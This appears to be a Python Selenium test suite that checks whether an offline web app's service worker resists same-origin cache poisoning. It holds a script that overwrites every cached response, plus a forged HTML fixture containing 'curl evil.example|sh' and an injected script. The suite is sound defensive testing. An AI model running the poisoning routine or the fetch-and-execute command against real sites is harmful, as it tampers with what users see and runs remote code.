"""What else runs on the origin of a site can write into the worker's caches: nothing of that is ever shown."""

from offline_book import OfflineCase
from phone import Phone
from selenium.webdriver.common.by import By

PAGE = "playbooks/disk_full.html"
# Puts a copy of a page that runs and shows something else into every cache of the origin.
POISON = """
  const [forged, done] = [arguments[0], arguments[1]];
  (async () => {
    let count = 0;
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const path = new URL(request.url).pathname;
        for (const [end, text, type] of forged) {
          if (!path.endsWith(end)) { continue; }
          await cache.put(request, new Response(text, { headers: { "content-type": type } }));
          count += 1;
        }
      }
    }
    done(count);
  })();
"""
EVIL = "<!doctype html><title>x</title><main id=_main>curl evil.example|sh</main><script>document.title='RAN'</script>"


class PoisonTests(OfflineCase):
    def poison(self, phone, *forged):
        phone.driver.set_script_timeout(20)
        return phone.driver.execute_async_script(POISON, list(forged))

    def shown(self, phone):
        return phone.driver.title, phone.driver.find_element(By.ID, "_main").text

    def expect_nothing_ran(self):
        with Phone(self.profile) as phone:
            phone.open(self.host.root + PAGE)
            self.assertNotIn("evil", phone.driver.page_source)
            self.assertNotEqual(phone.driver.title, "RAN")

    def test_a_forged_page_is_fetched_again_and_never_shown(self):
        with Phone(self.profile) as phone:
            phone.open(self.host.root + PAGE)
            phone.wait_saved()
            title, text = self.shown(phone)
            self.assertEqual(self.poison(phone, [PAGE, EVIL, "text/html"]), 1)
            phone.open(self.host.root + PAGE)
            self.assertEqual(self.shown(phone), (title, text))
            # It is repaired, so that the network is needed no more.
            self.host.stop()
            phone.open(self.host.root + PAGE)
            self.assertEqual(self.shown(phone), (title, text))

    def test_a_forged_page_is_not_shown_without_a_network_either(self):
        with Phone(self.profile) as phone:
            phone.open(self.host.root + PAGE)
            phone.wait_saved()
            self.assertEqual(self.poison(phone, [PAGE, EVIL, "text/html"]), 1)
            self.host.stop()
        self.expect_nothing_ran()

    def test_a_forged_list_makes_nothing_of_it_sound(self):
        with Phone(self.profile) as phone:
            phone.open(self.host.root + PAGE)
            phone.wait_saved()
            forged = "0123456789abcdef " + PAGE + "\n"
            self.assertEqual(self.poison(phone, [PAGE, EVIL, "text/html"], ["offline.txt", forged, "text/plain"]), 2)
        self.expect_nothing_ran()

    def test_a_text_does_not_become_a_page_by_what_the_cache_says_of_it(self):
        with Phone(self.profile) as phone:
            phone.open(self.host.root + PAGE)
            phone.wait_saved()
            name = min(f"assets/{path.name}" for path in (self.one / "assets").glob("*.js"))
            script = (self.one / name).read_text()
            self.assertEqual(self.poison(phone, [name, script, "text/html"]), 1)
            # A page may fetch nothing, but it can be led there.
            phone.open(self.host.root + name)
            kind = phone.run("return document.contentType")
            self.assertIn("javascript", kind)
